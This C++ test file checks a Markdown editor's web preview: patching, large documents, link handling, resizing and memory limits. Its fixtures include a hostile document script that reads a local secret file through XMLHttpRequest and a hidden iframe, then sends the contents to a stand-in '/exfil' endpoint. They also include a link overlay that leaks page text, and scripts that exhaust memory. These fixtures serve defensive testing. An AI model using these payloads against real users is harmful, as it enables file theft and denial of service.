// The preview and the scroll synchroniser on the real web engine, beside a
// plain text editor, with HTML from the document library.
#include "support/preview_render.h"
#include "support/large_documents.h"
#include "support/page_memory.h"
#include "support/shaped_documents.h"
#include "support/test_preferences.h"
#include "window/preview/preview_preferences.h"
#include "window/preview/smart_web_view.h"
#include "window/scrollsync/sync_scroller.h"
#include "window/preview/text_edit_surface.h"
#include "window/bridge/fake_engine_editor.h"
#include "window/bridge/tzr_engine.h"
#include "platform/files/workspace.h"
#include "platform/runtime/alerts.h"
#include "support/stand_in_opener.h"
#include "web_test_support.h"

#include "library/tzr.h"

#include <QApplication>
#include <QDir>
#include <QFile>
#include <QHBoxLayout>
#include <QHash>
#include <QImage>
#include <QJsonArray>
#include <QJsonDocument>
#include <QSet>
#include <QTemporaryDir>
#include <QAbstractTextDocumentLayout>
#include <QScrollBar>
#include <QTextBlock>
#include <QTextEdit>
#include <QWebEnginePage>
#include <QWheelEvent>

#include <gtest/gtest.h>

#include <array>
#include <csignal>
#include <random>
#include <thread>
#include <cstdlib>

using namespace web_test;

namespace {

QString readFile(const QString &path) {
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? QString::fromUtf8(file.readAll()) : QString();
}

// The HTML the engine bridge would publish for a text: a complete document.
QString convert(const QString &text) {
    char *html = tzr_string_convert(text.toUtf8().constData(), TZR_EXT_COMPLETE | TZR_EXT_NOTES | TZR_EXT_SMART,
                                    0, 0);
    const QString result = QString::fromUtf8(html);
    free(html);
    return result;
}

// A long text of `count` paragraphs, each naming itself ("Paragraph 12 holds").
QString paragraphs(int count) {
    QString text;
    for (int i = 0; i < count; i++)
        text += QStringLiteral("Paragraph %1 holds a few words, *some emphasis* and \"quotes\".\n\n").arg(i);
    return text;
}

// The engine bridge's scroll anchor.
const QString Anchor =
    "<a id=\"TZRHTMLSCROLLPOINT\" style=\"font-size:0px;position:absolute;left:10px;\">.</a>";

// A script that answers, as JSON text, the shape of every node in `nodes`
// (an expression for an array of nodes): an element as its name, class and
// the shapes of its children (a template's being those of its content);
// text and a comment as their words; whitespace and the program's own empty
// nodes left out. With `flat`, the elements in document order as their name,
// class and own text, each once, without their nesting: what stays the same
// wherever an element left open by raw HTML is closed.
QString shapesScript(const QString &nodes, bool flat) {
    return QStringLiteral(R"js((function () {
var flat = %2, out = [];
function words(t) { return t.replace(/\s+/g, ' ').trim(); }
function first(n) { return n.content instanceof DocumentFragment ? n.content.firstChild : n.firstChild; }
function shape(n) {
  if (n.nodeType === 3) { var t = words(n.data); return t ? JSON.stringify(t) : ''; }
  if (n.nodeType === 8) return '<!--' + words(n.data) + '-->';
  if (n.nodeType !== 1) return '';
  var name = n.tagName + (n.className ? '.' + n.className : ''), inner = [];
  for (var c = first(n); c; c = c.nextSibling) { var s = shape(c); if (s) inner.push(s); }
  return name + '(' + inner.join(',') + ')';
}
function walk(n) {
  if (n.nodeType !== 1) return;
  var own = '';
  for (var c = first(n); c; c = c.nextSibling) if (c.nodeType === 3) own += c.data;
  out.push(n.tagName + (n.className ? '.' + n.className : '') + ' ' + words(own));
  for (var c = first(n); c; c = c.nextSibling) walk(c);
}
Array.prototype.forEach.call(%1, function (n) {
  if (flat) walk(n); else { var s = shape(n); if (s) out.push(s); }
});
return JSON.stringify(out);
})())js")
        .arg(nodes, flat ? QStringLiteral("true") : QStringLiteral("false"));
}

// The nodes at the top of a page's body, and those of every part of a page
// in parts, in order.
const QString WholeNodes = QStringLiteral("document.body.childNodes");
const QString PartNodes = QStringLiteral(
    "Array.prototype.concat.apply([], Array.prototype.map.call(document.body.children,"
    " function (p) { return Array.prototype.slice.call(p.childNodes); }))");

QStringList shapesIn(platform::WebView &view, const QString &nodes, bool flat) {
    const QJsonDocument json = QJsonDocument::fromJson(evaluateText(view, shapesScript(nodes, flat)).toUtf8());
    QStringList shapes;
    for (const QJsonValue &value : json.array())
        shapes << value.toString();
    return shapes;
}

// Where two lists of shapes first differ, for the failure's message.
std::string firstDifference(const QStringList &parts, const QStringList &whole) {
    for (qsizetype i = 0; i < std::min(parts.size(), whole.size()); i++) {
        if (parts[i] == whole[i])
            continue;
        // Around the first character where they part.
        qsizetype at = 0;
        while (at < parts[i].size() && at < whole[i].size() && parts[i][at] == whole[i][at])
            at++;
        const qsizetype from = std::max<qsizetype>(0, at - 150);
        return "at " + std::to_string(i) + ", character " + std::to_string(at) + ": in parts " +
               parts[i].mid(from, 300).toStdString() + "\n   whole " + whole[i].mid(from, 300).toStdString();
    }
    return "lengths " + std::to_string(parts.size()) + " and " + std::to_string(whole.size());
}

// The same HTML loaded whole in a page of its own.
QStringList wholePageShapes(const QString &html, bool flat) {
    platform::WebView page;
    page.resize(1000, 800);
    page.show();
    // Megabytes of HTML on a busy machine: a wait that only catches a hang.
    page.setLoadTimeout(std::chrono::minutes(3));
    std::optional<bool> loaded;
    page.loadHtml(html, preview::untitledPreviewUrl(), [&](bool ok) { loaded = ok; });
    if (!waitUntil([&] { return loaded.has_value(); }, 200000) || !*loaded)
        return {QStringLiteral("<not loaded>")};
    return shapesIn(page, WholeNodes, flat);
}

class PreviewTest : public ::testing::Test {
protected:
    void SetUp() override {
        platform::Workspace::setOpenerForTesting([this](const QUrl &url) {
            opened << url;
            return true;
        });
        auto *layout = new QHBoxLayout(&window);
        layout->setContentsMargins(0, 0, 0, 0);
        layout->addWidget(editor, 1);
        layout->addWidget(view, 1);
        window.resize(1200, 800);
        window.show();
        view->setLinkedTextView(&surface);
        QObject::connect(&view->controller(), &PreviewController::refreshed, [this] { refreshes++; });
    }
    void TearDown() override { platform::Workspace::setOpenerForTesting({}); }

    // For pages of megabytes: on a busy machine under the sanitizers a part
    // put in can take the page longer than a script's usual time while its
    // memory reaches no new high (a page as large was held before), which
    // is all the wait on a busy page goes by. A wait that only catches a
    // hang.
    void bearMegabytes() { view->setScriptTimeout(std::chrono::minutes(2)); }

    // Waits until the preview has finished refreshing (and taken in its
    // page's geometry); says what it still waited for when it did not.
    ::testing::AssertionResult settled(int atLeast) {
        if (waitUntil([&] {
                return refreshes >= atLeast && !view->controller().isUpdating() && !view->isLoadingHtml() &&
                       view->controller().geometry().has_value();
            }))
            return ::testing::AssertionSuccess();
        return ::testing::AssertionFailure()
               << refreshes << " refreshes of " << atLeast << (view->controller().isUpdating() ? ", updating" : "")
               << (view->isLoadingHtml() ? ", loading" : "") << (view->controller().geometry() ? "" : ", no geometry");
    }
    // Shows `text` in the editor and its HTML in the preview, thawed.
    void open(const QString &text) {
        editor->setPlainText(text);
        view->updatePreview(convert(text));
        view->thawAndReload();
        ASSERT_TRUE(settled(1));
        ASSERT_TRUE(waitUntil([&] { return view->controller().knowsPageBlocks(); }));
    }
    std::string body() { return evaluateText(*view, "document.body.innerHTML").toStdString(); }

    // The shapes of what the preview's page holds once every part of its
    // body is filled, its parts put together (see shapesScript); nothing
    // when the page did not come to hold it all. With `afresh`, each part
    // first reads its HTML again in place, as a page loaded afresh reads
    // it, in the parts the page has: a page loaded again would cut its body
    // anew, where an element that the document's raw HTML leaves open
    // reaches to the end of another part (the parts a change did not touch
    // keep their cut).
    QStringList filledPageShapes(bool flat, bool afresh = false) {
        std::optional<bool> whole;
        view->controller().showWholePage([&](bool ok) { whole = ok; });
        QStringList shapes;
        const auto parts = view->controller().pageParts();
        if (waitUntil([&] { return whole.has_value(); }, 120000) && *whole &&
            waitUntil([&] { return !view->controller().isUpdating() && !view->isLoadingHtml(); }) &&
            (!afresh || (parts && readAfresh(*parts))))
            shapes = shapesIn(*view, parts ? PartNodes : WholeNodes, flat);
        view->controller().endWholePage();
        return shapes;
    }
    bool readAfresh(const preview::BodyParts &parts) {
        QString script = QStringLiteral("(function () { var parts = document.body.children;"
                                        " if (parts.length !== %1) return false;")
                             .arg(parts.count());
        for (qsizetype k = 0; k < parts.count(); k++)
            script += QStringLiteral("parts[%1].innerHTML = %2;")
                          .arg(k)
                          .arg(platform::WebView::stringLiteral(parts.text(k)));
        return evaluate(*view, script + QStringLiteral("return true; })()")).toBool();
    }

    // Waits until the page has handled the errors of the pictures it was
    // given before now (pictures of "data:," fail): that of a picture
    // asked for after them.
    bool picturesHandled() {
        return evaluate(*view, "window.orvaneProbed = false; var probe = new Image();"
                               "probe.onerror = function () { window.orvaneProbed = true; }; probe.src = 'data:,'; true")
                   .toBool() &&
               waitUntil([&] { return evaluate(*view, "window.orvaneProbed").toBool(); });
    }

    // What the alerts titled `title` told the user so far ("Not Opened",
    // "Open this address?").
    QStringList told(const QString &title) const {
        QStringList texts;
        for (const platform::Alert &alert : alerts.shown())
            if (alert.messageText == title)
                texts << alert.informativeText;
        return texts;
    }

    TestPreferences prefs;
    platform::ScriptedAlerts alerts;
    QList<QUrl> opened;
    int refreshes = 0;
    QWidget window;
    QTextEdit *editor = new QTextEdit;
    SmartWebView *view = new SmartWebView;
    TextEditSurface surface{editor};
    // After a change is sent: on at once, once the page took it in, or after
    // up to `longest` ms, chosen by `random`; false when the page never took it.
    bool goOnAtARandomMoment(std::mt19937 &random, int longest) {
        switch (random() % 3) {
        case 0:
            return true;
        case 1:
            return waitUntil([&] { return !view->controller().isUpdating(); });
        default:
            pause(int(random() % unsigned(longest)));
            return true;
        }
    }
};

}  // namespace

// Typing changes the preview, block by block; a body of any text arrives
// exactly (only the HTML parser's line-end rule applies), also when the page
// was changed under the preview and the whole body must go in. A
// <noscript> that arrives is text, as in a page loaded afresh, which runs
// scripts: its picture is never asked for.
TEST_F(PreviewTest, ShowsEachNewHtmlExactly) {
    prefs.insert(preview::SyncPreviewLocationWhileTyping, false);
    open("# Notes\n\nFirst paragraph.\n\nSecond paragraph.\n");
    EXPECT_EQ(evaluateText(*view, "document.querySelector('h1').textContent"), "Notes");
    EXPECT_EQ(evaluateText(*view, "document.title"), "");  // the page's own head gives way

    QTextCursor cursor(editor->document());
    cursor.movePosition(QTextCursor::End);
    cursor.insertText("\nA third one, typed.\n");
    view->updatePreview(convert(editor->toPlainText()));
    ASSERT_TRUE(settled(2));
    EXPECT_EQ(evaluateText(*view, "document.body.lastElementChild.textContent"), "A third one, typed.");
    EXPECT_TRUE(view->controller().knowsPageBlocks());

    const QString tricky = QString::fromUtf8(
        "<p>\"double\" 'single' \\ back\\slash \\n \\u2028 %1</p>\r\n<p>line\rbreaks\r\nand\xE2\x80\xA8separators\xE2\x80\xA9</p>"
        "\n<script>var s = \"</p>\";</script>\n<pre>&lt;/script&gt; \\\"</pre>\n"
        "<noscript><img src=\"data:,\" onerror=\"document.body.dataset.ran = 1\"></noscript>\n");
    auto expected = [&](QString text) { return text.replace("\r\n", "\n").replace('\r', '\n').toStdString(); };
    view->updatePreview("<html><head></head><body>" + tricky + "</body></html>");
    ASSERT_TRUE(settled(3));
    EXPECT_EQ(body(), expected(tricky));
    EXPECT_EQ(evaluate(*view, "document.querySelector('noscript').firstChild.nodeType").toInt(), 3);
    ASSERT_TRUE(picturesHandled());
    EXPECT_EQ(evaluateText(*view, "document.body.dataset.ran || ''"), "");

    // Someone took a block out of the page: the change cannot be patched in,
    // so the whole body goes in instead.
    evaluate(*view, "document.body.removeChild(document.querySelector('pre'))");
    const QString changed = tricky + "<p>after</p>";
    view->updatePreview("<html><head></head><body>" + changed + "</body></html>");
    ASSERT_TRUE(settled(4));
    EXPECT_EQ(body(), expected(changed));
}

// Two changes far apart (the caret moved a long way, then typed) reach the
// page as two runs of blocks: the blocks between them are the page's own.
TEST_F(PreviewTest, ChangesFarApartLeaveTheBlocksBetweenThemAlone) {
    prefs.insert(preview::SyncPreviewLocationWhileTyping, false);
    QString html;
    for (int i = 0; i < 60; i++)
        html += QStringLiteral("<p>block %1</p>\n").arg(i);
    auto page = [](const QString &body) { return "<html><head></head><body>" + body + "</body></html>"; };
    editor->setPlainText("x");
    view->updatePreview(page(html));
    view->thawAndReload();
    ASSERT_TRUE(settled(1));
    ASSERT_TRUE(waitUntil([&] { return view->controller().knowsPageBlocks(); }));
    evaluate(*view, "document.body.children[30].setAttribute('data-kept', 'yes')");
    QString changed = html;
    changed.replace("<p>block 2</p>", "<p>block two</p><p>and more</p>");
    changed.replace("<p>block 57</p>\n", "");
    view->updatePreview(page(changed));
    ASSERT_TRUE(settled(2));
    EXPECT_TRUE(view->controller().knowsPageBlocks());
    EXPECT_EQ(evaluateText(*view, "document.querySelector('[data-kept]').textContent"), "block 30");
    evaluate(*view, "document.querySelector('[data-kept]').removeAttribute('data-kept')");
    EXPECT_EQ(body(), changed.toStdString());
    // And the next change patches the page as it now is.
    changed.replace("<p>block 40</p>", "<p>block forty</p>");
    view->updatePreview(page(changed));
    ASSERT_TRUE(settled(3));
    EXPECT_EQ(body(), changed.toStdString());
}

// A document over 2 MB shows; the next keystroke reaches it by a patch.
TEST_F(PreviewTest, ShowsDocumentsOverTwoMegabytes) {
    QString text = paragraphs(20000);
    const QString html = convert(text);
    ASSERT_GT(platform::WebView::dataUrlLength(html), platform::WebView::DataUrlLimit);
    open(text);
    EXPECT_EQ(evaluate(*view, "document.body.getElementsByTagName('p').length").toInt(), 20000);
    text.replace("Paragraph 19999 holds", "Paragraph 19999 now holds");
    view->updatePreview(convert(text));
    ASSERT_TRUE(settled(2));
    EXPECT_TRUE(evaluateText(*view, "document.body.lastElementChild.textContent").startsWith("Paragraph 19999 now holds"));
}

// A long document whose page was changed under the preview: its body is too
// long to go in by one script, so the page is loaded afresh, once, with the
// text as it now is; the next change is a patch again.
TEST_F(PreviewTest, LoadsALongBodyAfreshWhenItCannotBePatchedIn) {
    QString text = paragraphs(20000);
    ASSERT_GT(convert(text).size(), preview::kBodyScriptLimit);
    open(text);
    int loads = 0;
    QObject::connect(&view->controller(), &PreviewController::pageLoaded, [&] { loads++; });
    evaluate(*view, "document.body.removeChild(document.body.children[100])");
    text.replace("Paragraph 10000 holds", "Paragraph 10000 now holds");
    view->updatePreview(convert(text));
    ASSERT_TRUE(settled(2));
    EXPECT_EQ(loads, 1);
    EXPECT_EQ(evaluate(*view, "document.body.getElementsByTagName('p').length").toInt(), 20000);
    EXPECT_EQ(evaluate(*view, "document.body.innerHTML.indexOf('Paragraph 10000 now holds') > 0").toBool(), true);
    ASSERT_TRUE(waitUntil([&] { return view->controller().knowsPageBlocks(); }));

    text.replace("Paragraph 19999 holds", "Paragraph 19999 now holds");
    view->updatePreview(convert(text));
    ASSERT_TRUE(settled(3));
    EXPECT_EQ(loads, 1);
    EXPECT_TRUE(evaluateText(*view, "document.body.lastElementChild.textContent").startsWith("Paragraph 19999 now holds"));
}

// Links that the user clicks and that leave the document go outside; a
// footnote stays in the page. The page's own scripts clicking the same link
// send nothing out.
TEST_F(PreviewTest, OpensLinksThatLeaveTheDocumentOutside) {
    QDir folder(QString::fromUtf8(ORVANE_ARTIFACT_DIR));
    folder.mkpath(".");
    view->setBaseURL(QUrl::fromLocalFile(folder.filePath("notes.md")));
    QString text = "See [the web](https://example.com/page) and [a script](run.sh) and a note[^n].\n\n";
    for (int i = 0; i < 80; i++)
        text += "Filler paragraph to make the page long.\n\n";
    text += "[^n]: The note.\n";
    open(text);
    evaluate(*view, "document.querySelector('a[href^=\"https\"]').click()");
    pause(500);
    EXPECT_TRUE(opened.isEmpty());
    auto clickLink = [&](const QString &selector) { ASSERT_TRUE(clickElement(*view, selector)) << selector.toStdString(); };
    clickLink("a[href^=\"https\"]");
    ASSERT_TRUE(waitUntil([&] { return opened.size() == 1; }));
    EXPECT_EQ(opened.first(), QUrl("https://example.com/page"));
    clickLink("a[href=\"run.sh\"]");  // does not exist: refused, and the user told once
    const QString script = QString::fromUtf8(QUrl::fromLocalFile(folder.filePath("run.sh")).toEncoded());
    ASSERT_TRUE(waitUntil([&] { return !alerts.shown().isEmpty(); }));
    clickLink("a.footnote");
    ASSERT_TRUE(waitUntil([&] { return evaluate(*view, "window.scrollY").toDouble() > 500; }));
    EXPECT_EQ(opened.size(), 1);
    EXPECT_EQ(evaluateText(*view, "document.location.href"), view->site().pageUrl().toString() + "#fn:1");
    EXPECT_EQ(told("Not Opened"), QStringList{"“" + script + "” was not opened: there is no such file."});
    EXPECT_EQ(alerts.count(), 1);
}

// A link the document gained as the user typed (put into the page by script,
// not loaded with it) opens on one click; a link the page's own script laid
// over the text is asked about first, and Cancel opens nothing.
TEST_F(PreviewTest, OpensTheDocumentsLinksAtOnceAndAsksAboutAScriptsOwn) {
    const QString text = "# Notes\n\nFirst paragraph.\n\n<script>\nfunction cover() {"
                         " var a = document.createElement('a'); a.href = 'https://example.com/cover?d=' +"
                         " encodeURIComponent(document.body.innerText); a.style.cssText ="
                         " 'position:fixed;left:0;top:0;right:0;bottom:0'; document.body.appendChild(a); }\n"
                         "</script>\n";
    open(text);
    int loads = 0;
    QObject::connect(&view->controller(), &PreviewController::pageLoaded, [&] { loads++; });
    view->updatePreview(convert(text + "\nSee [the new page](https://example.com/new).\n"));
    ASSERT_TRUE(settled(2));
    ASSERT_EQ(loads, 0);  // it came by script
    ASSERT_TRUE(clickElement(*view, "a[href=\"https://example.com/new\"]"));
    ASSERT_TRUE(waitUntil([&] { return opened.size() == 1; }));
    EXPECT_EQ(opened.last(), QUrl("https://example.com/new"));
    EXPECT_EQ(alerts.count(), 0);

    evaluate(*view, "cover()");
    alerts.addAnswers({1});
    ASSERT_TRUE(clickElement(*view, "h1"));
    ASSERT_TRUE(waitUntil([&] { return alerts.count() == 1; }));
    pause(500);
    EXPECT_EQ(opened.size(), 1);
    ASSERT_EQ(told("Open this address?").size(), 1);
    EXPECT_TRUE(told("Open this address?").first().startsWith("https://example.com/cover?d=Notes"));
}

// An ordinary document's links, with each of the program's style sheets:
// in a heading, a paragraph (emphasised too), a list, a quotation, a table's
// rows, around code and around a picture, each opens at once on a click on
// its text or picture, and a footnote's mark and its way back lead there in
// the page, with no question.
TEST_F(PreviewTest, AnOrdinaryDocumentsLinksOpenAtOnceWithEachOfTheProgramsStyleSheets) {
    prefs.insert(preview::SyncPreviewLocationWhileTyping, false);
    QTemporaryDir folder;
    QImage picture(60, 40, QImage::Format_RGB32);
    picture.fill(QColor(30, 90, 160));
    ASSERT_TRUE(picture.save(folder.filePath("pic.png"), "PNG"));
    view->setBaseURL(QUrl::fromLocalFile(folder.filePath("notes.md")));
    const QString text = "# Notes on [the heading](https://example.com/heading)\n\n"
                         "A paragraph with [a link](https://example.com/paragraph), "
                         "*[emphasised](https://example.com/emphasis)* and a note[^n].\n\n"
                         "- an item with [its link](https://example.com/item)\n- another item\n\n"
                         "> A quotation with [a link](https://example.com/quotation).\n\n"
                         "| first | second |\n|---|---|\n| [row](https://example.com/odd) | x |\n"
                         "| [row](https://example.com/even) | y |\n\n"
                         "See [`code`](https://example.com/code).\n\n"
                         "[![a picture](pic.png)](https://example.com/picture)\n\n"
                         "[^n]: The note.\n";
    const QStringList links = {"heading", "paragraph", "emphasis", "item", "quotation", "odd", "even", "code"};
    const QStringList sheets = QDir(QStringLiteral(ORVANE_SOURCE_DIR "/resources/css")).entryList({"*.css"});
    ASSERT_EQ(sheets.size(), 3);
    for (const QString &sheet : sheets) {
        SCOPED_TRACE(sheet.toStdString());
        const int before = refreshes;
        view->controller().applyCSSFromPath(QStringLiteral(ORVANE_SOURCE_DIR "/resources/css/") + sheet);
        if (before == 0)
            open(text);
        else
            ASSERT_TRUE(settled(before + 1));
        ASSERT_GT(evaluate(*view, "document.styleSheets[0].cssRules.length").toInt(), 10);
        ASSERT_TRUE(
            waitUntil([&] { return evaluate(*view, "document.querySelector('img').naturalWidth").toInt() == 60; }));
        opened.clear();
        for (const QString &link : links) {
            ASSERT_TRUE(clickElement(*view, QStringLiteral("a[href=\"https://example.com/%1\"]").arg(link)))
                << link.toStdString();
            ASSERT_TRUE(
                waitUntil([&] { return opened.size() == links.indexOf(link) + 1 || alerts.count() > 0; }, 20000))
                << link.toStdString();
            ASSERT_EQ(alerts.count(), 0) << link.toStdString();
        }
        ASSERT_TRUE(clickElement(*view, "a[href=\"https://example.com/picture\"] img"));
        ASSERT_TRUE(waitUntil([&] { return opened.size() == links.size() + 1 || alerts.count() > 0; }, 20000));
        ASSERT_EQ(alerts.count(), 0);
        QList<QUrl> expected;
        for (const QString &link : links + QStringList{"picture"})
            expected << QUrl("https://example.com/" + link);
        EXPECT_EQ(opened, expected);

        ASSERT_TRUE(clickElement(*view, "a.footnote"));
        ASSERT_TRUE(waitUntil([&] { return evaluateText(*view, "document.location.hash") == "#fn:1"; }, 20000));
        ASSERT_TRUE(clickElement(*view, "a.reversefootnote"));
        ASSERT_TRUE(waitUntil([&] { return evaluateText(*view, "document.location.hash") == "#fnref:1"; }, 20000));
        EXPECT_EQ(alerts.count(), 0);
        EXPECT_EQ(opened.size(), links.size() + 1);
    }
}

// A relative link resolves against the document's real folder, wherever it
// leads: out of doc/ it opens the file above, not its namesake in doc/; one
// to a file that is not there is refused and the user told once. A picture
// above the folder is not shown, nor is its namesake in the folder.
TEST_F(PreviewTest, OpensLinksOutOfTheDocumentsFolderWhereTheyLead) {
    QTemporaryDir root;
    ASSERT_TRUE(QDir(root.path()).mkpath("doc"));
    for (const char *name : {"sample.md", "doc/sample.md"}) {
        QFile file(root.filePath(name));
        ASSERT_TRUE(file.open(QIODevice::WriteOnly) && file.write("# Sample\n") > 0);
    }
    QImage picture(37, 23, QImage::Format_RGB32);
    picture.fill(Qt::blue);
    ASSERT_TRUE(picture.save(root.filePath("pic.png"), "PNG") && picture.save(root.filePath("doc/pic.png"), "PNG"));
    view->setBaseURL(QUrl::fromLocalFile(root.filePath("doc/copy.md")));
    open("# Copy\n\nSee [the sample](../sample.md), [the sample here](sample.md) and [gone](../gone.md).\n\n"
         "![above](../pic.png)\n");
    ASSERT_TRUE(clickElement(*view, "a[href=\"../sample.md\"]"));
    ASSERT_TRUE(waitUntil([&] { return opened.size() == 1; }));
    EXPECT_EQ(opened.last(), QUrl::fromLocalFile(root.filePath("sample.md")));
    ASSERT_TRUE(clickElement(*view, "a[href=\"sample.md\"]"));
    ASSERT_TRUE(waitUntil([&] { return opened.size() == 2; }));
    EXPECT_EQ(opened.last(), QUrl::fromLocalFile(root.filePath("doc/sample.md")));
    EXPECT_EQ(alerts.count(), 0);

    ASSERT_TRUE(clickElement(*view, "a[href=\"../gone.md\"]"));
    ASSERT_TRUE(waitUntil([&] { return alerts.count() == 1; }));
    pause(500);
    EXPECT_EQ(alerts.count(), 1);
    EXPECT_EQ(opened.size(), 2);
    EXPECT_EQ(told("Not Opened"),
              QStringList{"“" + QString::fromUtf8(QUrl::fromLocalFile(root.filePath("gone.md")).toEncoded()) +
                          "” was not opened: there is no such file."});

    ASSERT_TRUE(waitUntil([&] { return evaluate(*view, "document.querySelector('img').complete").toBool(); }));
    EXPECT_EQ(evaluate(*view, "document.querySelector('img').naturalWidth").toInt(), 0);
}

// The attacker's document: its raw HTML reads a file of the user's by script
// and through a hidden frame, and hands what it got to the desktop by
// setting the page's location, without a click. In the preview nothing is
// read and nothing reaches the desktop's opener; the picture beside the
// document shows, and a link the user clicks still goes out.
TEST_F(PreviewTest, AnAttackersDocumentReadsNoFileAndSendsNothingOutUnclicked) {
    platform::Workspace::setOpenerForTesting({});  // the desktop's opener, a stand-in here
    StandInOpener &opener = StandInOpener::install();
    opener.clear();
    QTemporaryDir root;
    ASSERT_TRUE(QDir(root.path()).mkpath("home/notes"));
    const QString secret = root.filePath("home/secret.txt");
    {
        QFile file(secret);
        ASSERT_TRUE(file.open(QIODevice::WriteOnly));
        file.write("TOPSECRET-42\n");
    }
    QImage picture(37, 23, QImage::Format_RGB32);
    picture.fill(Qt::blue);
    ASSERT_TRUE(picture.save(root.filePath("home/notes/pic.png"), "PNG"));
    view->setBaseURL(QUrl::fromLocalFile(root.filePath("home/notes/notes.md")));

    QString text = R"md(# Notes

A picture beside the document: ![a picture](pic.png)

Go to [the site](https://example.com/clicked).

<pre id="got">nothing yet</pre>

<script>
setTimeout(function () { var got = 'refused'; try { var x = new XMLHttpRequest(); x.open('GET', '@SECRET@', false); x.send(); got = x.responseText; } catch (e) {}
try { got += ' | ' + document.querySelector('iframe').contentDocument.documentElement.textContent; } catch (e) { got += ' | unreadable'; }
document.getElementById('got').textContent = got;
top.location = 'http://127.0.0.1:8709/exfil?d=' + encodeURIComponent(got); }, 2000);
</script>

<iframe style="display:none" src="@SECRET@"></iframe>
)md";
    text.replace("@SECRET@", QUrl::fromLocalFile(secret).toString(QUrl::FullyEncoded));
    ASSERT_TRUE(convert(text).contains("x.send(); got = x.responseText;"));
    ASSERT_TRUE(convert(text).contains("<iframe style=\"display:none\" src=\"file:///"));
    open(text);
    ASSERT_TRUE(waitUntil([&] { return evaluateText(*view, "document.getElementById('got').textContent") != "nothing yet"; }));
    pause(1000);
    const QString got = evaluateText(*view, "document.getElementById('got').textContent");
    EXPECT_TRUE(got.startsWith("refused | ")) << got.toStdString();
    EXPECT_FALSE(evaluateText(*view, "document.documentElement.outerHTML").contains("TOPSECRET"));
    EXPECT_EQ(opener.calls(), QStringList());
    EXPECT_EQ(evaluateText(*view, "document.location.href"), view->site().pageUrl().toString());
    EXPECT_EQ(evaluateText(*view, "var p = document.querySelector('img'); p.naturalWidth + 'x' + p.naturalHeight"),
              "37x23");
    // Nor are the picture's pixels to be had by drawing it into a canvas.
    EXPECT_EQ(evaluateText(*view, "var c = document.createElement('canvas'); c.width = 37; c.height = 23;"
                                  "var g = c.getContext('2d'); g.drawImage(document.querySelector('img'), 0, 0);"
                                  "var r; try { r = String(g.getImageData(0, 0, 1, 1).data[2]); }"
                                  "catch (e) { r = e.name; } r"),
              "SecurityError");

    ASSERT_TRUE(clickElement(*view, "a[href^=\"https\"]"));
    ASSERT_TRUE(waitUntil([&] { return !opener.calls().isEmpty(); }));
    EXPECT_EQ(opener.calls(), QStringList{"https://example.com/clicked"});
}

// A window being resized leaves the page in place: once the resize has
// settled, the body's margins follow the editor's new height without a
// load, and the page stays scrolled where it was; while hidden, HTML is
// dropped.
TEST_F(PreviewTest, AfterTheWindowWasResizedTheMarginsFollowTheEditorInPlace) {
    QString text = "# Resize\n\n";
    for (int i = 0; i < 200; i++)
        text += QStringLiteral("Paragraph %1, long enough to wrap once or twice in the preview's narrow pane.\n\n").arg(i);
    open(text);
    int loads = 0;
    QObject::connect(&view->controller(), &PreviewController::pageLoaded, [&] { loads++; });
    // A paragraph far down at the view's top.
    const QString top = "document.body.children[120].getBoundingClientRect().top";
    evaluate(*view, "document.body.children[120].scrollIntoView(true)");
    ASSERT_TRUE(waitUntil([&] { return std::abs(evaluate(*view, top).toDouble()) < 2; }));
    for (int width = 1000; width <= 1180; width += 20) {
        window.resize(width, 700 + width / 10);
        pause(30);
    }
    const int margin = preview::bodyMargin(editor->viewport()->height());
    ASSERT_TRUE(waitUntil([&] {
        return !view->controller().isUpdating() &&
               evaluate(*view, "parseFloat(getComputedStyle(document.body).marginTop)").toInt() == margin;
    }));
    pause(SmartWebView::ResizeSettleMilliseconds * 2);
    EXPECT_EQ(loads, 0);
    EXPECT_LT(std::abs(evaluate(*view, top).toDouble()), 40);
    view->hide();
    view->updatePreview(convert("# Hidden\n"));
    pause(100);
    view->show();
    EXPECT_EQ(evaluateText(*view, "document.querySelector('h1').textContent"), "Resize");
}

// The page's process dies: the preview loads afresh, and later HTML shows,
// here published from another thread as the engine bridge does.
TEST_F(PreviewTest, KeepsUpdatingAfterThePagesProcessDies) {
    open("# Before\n");
    ::kill(pid_t(view->page()->renderProcessPid()), SIGKILL);
    ASSERT_TRUE(settled(2));
    platform::Observable<PreviewHtml> htmlString;
    view->observeHtmlString(htmlString);
    std::thread([&] { htmlString.setAlways(PreviewHtml{convert("# After\n"), nullptr}); }).join();
    ASSERT_TRUE(waitUntil([&] {
        return evaluateText(*view, "document.querySelector('h1') && document.querySelector('h1').textContent") ==
               "After";
    }));
}

// Documents whose script allocates without end: by the script's heap, by
// array buffers (whose allocation fails at the bound, and the script goes
// on asking), and by the document's nodes. The page's process never holds
// more than its bound, and is ended near it; the preview says so in words
// and loads the document again neither for a change, nor for the reloads a
// resize, a retry or a new file would make: only the user's refresh shows
// it again.
TEST_F(PreviewTest, APageThatTakesAllTheMemoryIsEndedAndShownAgainOnlyWhenAsked) {
    constexpr qint64 bound = qint64(700) << 20;
    view->setPageMemoryBound(bound);
    open("# Plain\n\nA page well within its bound.\n");
    int loads = 0;
    QObject::connect(view->page(), &QWebEnginePage::loadStarted, [&] { loads++; });
    const QStringList scripts = {
        "var a = []; (function f() { for (var i = 0; i < 20; i++) a.push(new Array(250000).fill(Math.random()));"
        " setTimeout(f, 0); })();",
        "var a = []; (function f() { try { for (var i = 0; i < 8; i++) { var b = new ArrayBuffer(8 << 20);"
        " new Uint8Array(b).fill(1); a.push(b); } } catch (e) {} setTimeout(f, 0); })();",
        "(function f() { var d = document.createElement('div'); for (var i = 0; i < 20000; i++) {"
        " var p = document.createElement('p'); p.textContent = 'node ' + i + Math.random(); d.appendChild(p); }"
        " document.body.appendChild(d); setTimeout(f, 0); })();",
        // Steps so large that one refused at the bound crashes the process
        // before the watch sees it near there.
        "var a = []; (function f() { a.push(new Array(30000000).fill(Math.random())); setTimeout(f, 200); })();",
    };
    auto noteShown = [&] {
        return view->controller().isPageEnded() &&
               evaluateText(*view, "document.body ? document.body.textContent : ''")
                   .contains("The preview of this document was ended: its page took more than 700.0 MB of memory.");
    };
    for (const QString &script : scripts) {
        SCOPED_TRACE(script.toStdString());
        view->updatePreview(convert("# Greedy\n\n<script>\n" + script + "\n</script>\n"));
        view->refreshPreview();
        // The process's data, looked at as often as the test can, until the
        // note shows.
        qint64 most = 0;
        ASSERT_TRUE(waitUntil([&] {
            const qint64 data = testing_proc::dataOfProcess(view->page()->renderProcessPid());
            most = std::max(most, data);
            if (data > bound)
